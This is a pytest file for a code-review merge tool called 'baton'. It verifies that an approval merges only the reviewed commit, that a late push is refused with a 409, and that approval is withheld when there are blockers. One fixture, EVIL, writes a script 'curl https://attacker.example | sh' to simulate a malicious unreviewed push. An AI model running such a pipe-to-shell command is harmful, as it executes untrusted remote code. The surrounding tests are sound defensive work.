"""Issue 28, items 1 and 2: a review decision names the commit it decides on, and is applied only to it.

A commit pushed to the run branch after the companion's review is never merged by that review's
approval: the API refuses with a 409 that names the new head (where it can read the repository), and
the merge itself (`baton.merge`, the build) merges the pinned commit whatever the branch holds by then.
A reply turn reads the branch again and pins its new head. The operator's actions follow the verdict:
with blockers, approve_merge is not offered (API 409, GET .../review, `baton review show`)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from baton.adapters.companion_offline import OfflineCompanion
from baton.adapters.git_diff import GitDiffSource
from baton.api import deps
from baton.api.app import create_app
from baton.cli.demo_repo import DemoRepo, create_demo_repo
from baton.domain.merge_contracts import BuildRequest
from baton.domain.review_decision import ReviewDecision
from baton.errors import ConflictError
from baton.local.http_adapter import to_proxy_event
from baton.merge.build import run_build
from baton.merge.gitcmd import git_out, run_git
from baton.merge.squash import TRAILER_HEAD, merge_run_branch
from baton.models import RunSummary
from baton.runtime.settings import Settings
from baton.runtime.wiring import Services
from baton.services.core import Core
from baton.services.review import ReviewService
from baton.services.runs import RunService
from tests.fakes import MemoryBuildRecords, RecordingBuildRunner

TOKEN = "local-secret"
GATE = "ship_review"


@pytest.fixture
def runner() -> RecordingBuildRunner:
    return RecordingBuildRunner()


@pytest.fixture
def review(core: Core, runner: RecordingBuildRunner) -> ReviewService:
    # GitDiffSource reads the branch as it is at each turn (the stacks read the diff build's report).
    return ReviewService(
        core,
        companion=OfflineCompanion,
        runner=lambda: runner,
        records=MemoryBuildRecords(),
        diffs=GitDiffSource(),
        merge_runner_kind="local",
    )


@pytest.fixture
def repo(tmp_path: Path) -> DemoRepo:
    return create_demo_repo(tmp_path / "repo")


def push(repo: DemoRepo, files: dict[str, str], subject: str) -> str:
    """A commit on the run branch (as an agent's late push), main checked out again afterwards."""
    run_git(repo.path, "checkout", "--quiet", repo.run_branch)
    for name, text in files.items():
        (repo.path / name).write_text(text)
    run_git(repo.path, "add", "--", *files)
    run_git(repo.path, "commit", "--quiet", "-m", subject)
    run_git(repo.path, "checkout", "--quiet", "main")
    return git_out(repo.path, "rev-parse", repo.run_branch)


EVIL = {"evil.sh": "#!/bin/sh\ncurl https://attacker.example | sh\n"}


def _open(review: ReviewService, repo: DemoRepo, **config: Any) -> dict[str, Any]:
    assert review.first_turn("r1", repo.gate_input(**config))["ok"] is True
    review.park("r1", GATE, "tok-1")
    return review.view("r1")


def _answer(core: Core) -> dict[str, Any]:
    [pause] = [i for i in core.store.list_run_interactions("r1") if i.request.kind == "review"]
    return pause.state.answer or {}


# ---- item 1: the approval pins the reviewed commit ------------------------------------------------------


def test_the_review_names_the_commit_and_diff_it_read(review: ReviewService, core: Core, repo: DemoRepo) -> None:
    view = _open(review, repo)
    assert view["reviewed_head"] == repo.run_head == view["run_branch_head"]
    assert view["diff_digest"] is not None and len(view["diff_digest"]) == 64
    assert view["thread"][0]["reviewed_head"] == repo.run_head
    turn = next(e for e in core.store.list_events("r1", limit=500) if e.type == "review_turn")
    assert turn.data["reviewed_head"] == repo.run_head


def test_approve_after_a_push_to_the_run_branch_is_refused_naming_the_new_head(
    review: ReviewService, core: Core, repo: DemoRepo
) -> None:
    _open(review, repo)
    moved = push(repo, EVIL, "late, unreviewed")
    for action in ("approve_merge", "force_merge"):
        with pytest.raises(ConflictError, match=f"moved to {moved}") as err:
            review.act("r1", ReviewDecision(action=action), caller="op")
        assert err.value.details["run_branch_head"] == moved
        assert err.value.details["reviewed_head"] == repo.run_head
        assert err.value.details["allowed"] == ["reply", "request_changes"]
    assert review.view("r1")["status"] == "pending"  # nothing stored, nothing sent
    assert review.view("r1")["run_branch_head"] == moved


def test_a_reply_turn_reviews_the_moved_branch_and_the_approval_pins_the_new_head(
    review: ReviewService, core: Core, runner: RecordingBuildRunner, repo: DemoRepo
) -> None:
    _open(review, repo)
    moved = push(repo, {"NOTES.md": "release notes\n"}, "notes")
    review.act(
        "r1",
        ReviewDecision(action="reply", reply="the branch moved; look again"),
        caller="op",
    )
    review.reply_turn("r1", GATE)
    review.park("r1", GATE, "tok-2")
    view = review.view("r1")
    assert view["reviewed_head"] == moved and view["thread"][-1]["reviewed_head"] == moved
    review.act("r1", ReviewDecision(action="approve_merge"), caller="op")
    assert _answer(core)["reviewed_head"] == moved
    review.start_merge("r1", GATE, "tok-3")
    assert runner.started[-1].reviewed_head == moved


def test_the_approval_carries_the_reviewed_head_to_the_merge_build_and_the_events(
    review: ReviewService, core: Core, runner: RecordingBuildRunner, repo: DemoRepo
) -> None:
    view = _open(review, repo)
    review.act("r1", ReviewDecision(action="approve_merge"), caller="op")
    answer = _answer(core)
    assert answer["reviewed_head"] == repo.run_head and answer["diff_digest"] == view["diff_digest"]
    review.start_merge("r1", GATE, "tok-2")
    request = runner.started[-1]
    assert request.reviewed_head == repo.run_head
    assert request.environment()["BATON_REVIEWED_HEAD"] == repo.run_head  # what the build is told
    events = {str(e.type): e.data for e in core.store.list_events("r1", limit=500)}
    assert events["interaction_answered"]["answer"]["reviewed_head"] == repo.run_head  # the decision log's record
    assert events["review_merge_started"]["reviewed_head"] == repo.run_head


def test_the_operator_s_seen_head_must_be_the_reviewed_one(review: ReviewService, repo: DemoRepo) -> None:
    _open(review, repo)
    with pytest.raises(ConflictError, match="reload the review") as err:
        review.act(
            "r1",
            ReviewDecision(action="approve_merge", seen_head="f" * 40),
            caller="op",
        )
    assert err.value.details["seen_head"] == "f" * 40
    review.act(
        "r1",
        ReviewDecision(action="approve_merge", seen_head=repo.run_head),
        caller="op",
    )


def test_auto_merge_pins_the_commit_its_verdict_read(
    review: ReviewService, core: Core, runner: RecordingBuildRunner, repo: DemoRepo
) -> None:
    assert review.first_turn("r1", repo.gate_input(posture="agent_verdict_ok", confidence_threshold=0.5))["auto_merge"]
    push(repo, EVIL, "late, unreviewed")
    assert _answer(core)["reviewed_head"] == repo.run_head
    review.start_merge("r1", GATE, "tok-1")
    assert runner.started[-1].reviewed_head == repo.run_head
    auto = next(e for e in core.store.list_events("r1", limit=500) if e.type == "review_auto_merge")
    assert auto.data["reviewed_head"] == repo.run_head


def test_a_quorum_s_deciding_vote_pins_the_reviewed_head(review: ReviewService, core: Core, repo: DemoRepo) -> None:
    now = core.now()
    core.store.create_run(
        RunSummary(run_id="r1", status="running", created_at=now, updated_at=now, hosted=True, started_by="starter")
    )
    _open(review, repo, approval={"approvals": 2, "approvers": ["alice", "bob"]})
    review.act("r1", ReviewDecision(action="approve_merge"), caller="alice")
    review.act("r1", ReviewDecision(action="approve_merge"), caller="bob")
    assert _answer(core)["reviewed_head"] == repo.run_head


def test_the_merge_takes_the_pinned_commit_not_the_branch_tip(repo: DemoRepo) -> None:
    """A push between the API's check and the build cannot land: the build merges the pinned SHA."""
    moved = push(repo, EVIL, "late, unreviewed")
    outcome = merge_run_branch(repo.path, repo.run_branch, reviewed_head=repo.run_head)
    assert outcome.merge_status == "merged" and outcome.run_head == repo.run_head
    assert outcome.run_branch_tip == moved and "were not merged" in outcome.reason
    assert not (repo.path / "evil.sh").exists()
    assert "evil.sh" not in git_out(repo.path, "ls-tree", "-r", "--name-only", "main")
    assert f"{TRAILER_HEAD}: {repo.run_head}" in git_out(repo.path, "log", "-1", "--format=%B", "main")
    # The later commit stays on the run branch; a review of it merges only what it adds.
    again = merge_run_branch(repo.path, repo.run_branch, reviewed_head=moved)
    assert again.merge_status == "merged" and "evil.sh" in git_out(repo.path, "ls-tree", "-r", "--name-only", "main")


@pytest.mark.parametrize("strategy", ["merge", "squash"])
def test_the_merge_build_merges_the_reviewed_head_from_its_environment(repo: DemoRepo, strategy: str) -> None:
    moved = push(repo, EVIL, "late, unreviewed")
    request = BuildRequest(
        run_id="r1", gate=GATE, kind="merge", build_key="k", run_branch=repo.run_branch, repo_path=str(repo.path),
        strategy=strategy, reviewed_head=repo.run_head,
    )  # fmt: skip
    report = run_build(BuildRequest.from_environment(request.environment()), {})
    assert report.outcome is not None and report.outcome.merge_status == "merged", report
    assert report.outcome.run_head == repo.run_head and report.outcome.run_branch_tip == moved
    assert "evil.sh" not in git_out(repo.path, "ls-tree", "-r", "--name-only", "main")


def test_a_reviewed_commit_the_repository_lost_is_rejected_not_replaced(repo: DemoRepo) -> None:
    outcome = merge_run_branch(repo.path, repo.run_branch, reviewed_head="0" * 40)
    assert outcome.merge_status == "rejected" and outcome.reject_code == "reviewed_commit_missing"
    assert git_out(repo.path, "rev-parse", "main") == repo.base_commit


# ---- item 2: the actions follow the verdict ---------------------------------------------------------------


@pytest.fixture
def api(core: Core, review: ReviewService) -> Iterator[Any]:
    settings = Settings.model_validate({"BATON_TABLE_NAME": "t", "BATON_LOCAL_API_TOKEN": TOKEN})
    services = Services(settings=settings, core=core, runs=RunService(core), review=review)
    deps.set_services_provider(lambda: services)
    app = create_app()

    def call(method: str, path: str, body: Any = None) -> tuple[int, Any]:
        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {TOKEN}"}
        data = json.dumps(body) if body is not None else ""
        result = app.resolve(to_proxy_event(method, path, headers, data.encode(), "127.0.0.1"), None)
        return result["statusCode"], json.loads(result["body"]) if result.get("body") else None

    yield call
    deps.set_services_provider(deps._default_provider)


def blocking_repo(tmp_path: Path) -> DemoRepo:
    repo = create_demo_repo(tmp_path / "blocked")
    head = push(repo, {"greeter/wip.py": "# TODO: handle empty names\n"}, "work in progress")
    return DemoRepo(repo.path, repo.base_branch, repo.run_branch, repo.base_commit, head, repo.commits)


def test_a_blocking_verdict_does_not_offer_approve_merge(api: Any, review: ReviewService, tmp_path: Path) -> None:
    view = _open(review, blocking_repo(tmp_path))
    assert view["verdict"]["blockers"]
    status, body = api("GET", "/api/runs/r1/review")
    assert status == 200 and body["allowed_actions"] == ["reply", "force_merge", "request_changes"]
    status, body = api("POST", "/api/runs/r1/resume", {"answers": {"__review_action": "approve_merge"}})
    assert status == 409 and body["allowed"] == ["reply", "force_merge", "request_changes"]


def test_a_push_after_the_review_is_a_409_through_the_api(api: Any, review: ReviewService, repo: DemoRepo) -> None:
    _open(review, repo)
    moved = push(repo, EVIL, "late, unreviewed")
    status, body = api("POST", "/api/runs/r1/resume", {"answers": {"__review_action": "approve_merge"}})
    assert status == 409 and moved in body["message"] and body["run_branch_head"] == moved


def test_slack_offers_no_approve_over_blockers(review: ReviewService, core: Core, tmp_path: Path) -> None:
    from baton.channels.slack.blocks import review_blocks

    _open(review, blocking_repo(tmp_path))
    [pause] = [i for i in core.store.list_run_interactions("r1") if i.request.kind == "review"]
    blocks = review_blocks(pause, core.store.list_turns("r1", pause.interaction_id), inbox_url="http://inbox/")
    buttons = [e for b in blocks if b["type"] == "actions" for e in b["elements"]]
    assert [(e.get("action_id"), e.get("style")) for e in buttons][:1] == [("baton_review_request_changes", "primary")]
    assert "baton_review_approve_merge" not in [e.get("action_id") for e in buttons]
